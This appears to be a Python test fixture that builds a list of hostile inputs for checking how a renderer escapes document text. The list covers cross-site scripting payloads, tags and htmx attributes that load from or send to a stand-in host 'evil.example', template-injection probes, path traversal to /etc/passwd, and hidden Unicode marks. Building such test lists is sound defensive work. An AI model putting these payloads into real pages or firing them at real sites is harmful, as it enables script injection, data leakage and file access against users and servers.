"""Hostile words for every place where a document's words are shown: markup, scripts, addresses, styles, hidden marks."""

from __future__ import annotations

from itertools import product

_SCRIPTS = ("window.hit=1", "alert(1)", "top.hit=1", "fetch('//evil.example/')")
_HOLDERS = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<a href='javascript:{}'>open</a>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<math><mtext><img src=x onerror={}></mtext></math>",
    '"><img src=x onerror={}>',
    "' onmouseover='{}",
    "`onclick={}",
    "{{{{constructor.constructor('{}')()}}}}",
    "<!--><img src=x onerror={}>-->",
    "<style>@import '//evil.example/a.css';</style><img src=x onerror={}>",
    "]]><script>{}</script>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<template><script>{}</script></template>",
)
_OUTWARD = (
    "<img src=//evil.example/pixel.png>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><button>Send</button></form>",
    "<video src=//evil.example/a.mp4 autoplay></video>",
    "<audio src=//evil.example/a.mp3 autoplay></audio>",
    "<object data=//evil.example/a></object>",
    "<embed src=//evil.example/a>",
    "<iframe src=//evil.example/></iframe>",
    "<svg><image href=//evil.example/a.png /></svg>",
    "<svg><use href=//evil.example/a.svg#x /></svg>",
    "<div style='background:url(//evil.example/a.png)'>",
    "<table background=//evil.example/a.png>",
)
#: What htmx would act on, were it markup.
_ACTING = (
    '<div hx-get="//evil.example/" hx-trigger="load"></div>',
    '<div data-hx-get="/logout" data-hx-trigger="load"></div>',
    '<b hx-on:click="window.hit=1" hx-on::load="window.hit=1">press</b>',
    '<i hx-get="/" hx-trigger="load[window.hit=1]"></i>',
    "<i hx-get=/ hx-trigger=load hx-vals='js:{x: window.hit=1}'></i>",
    '<form hx-post="/judge" hx-trigger="load"><input name=act value=note></form>',
    '<a hx-boost="true" href="//evil.example/">More</a>',
    '<p id="found" hx-swap-oob="true">nothing fits</p>',
    '<template hx type="partial" hx-target="#main"><script>window.hit=1</script></template>',
    '<meta name="htmx-config" content=\'{"allowEval":true,"selfRequestsOnly":false}\'>',
    '" hx-get="//evil.example/" hx-trigger="load" x="',
    "' hx-on:mouseover='window.hit=1",
)
_MARKS = (
    "\u202egnp.exe", "\u2066left\u2069", "\u200bhidden", "\ufeffmark", "a\u0000b", "\u2028line", "\x1b[31mred", "\u00adsoft",
    "{% raw %}{{ 7*7 }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "../../etc/passwd", "%2e%2e%2f", "\\\\evil.example\\share",
)  # fmt: skip

#: All of them.
ATTACKS = tuple(holder.format(script) for holder, script in product(_HOLDERS, _SCRIPTS)) + _OUTWARD + _ACTING + _MARKS
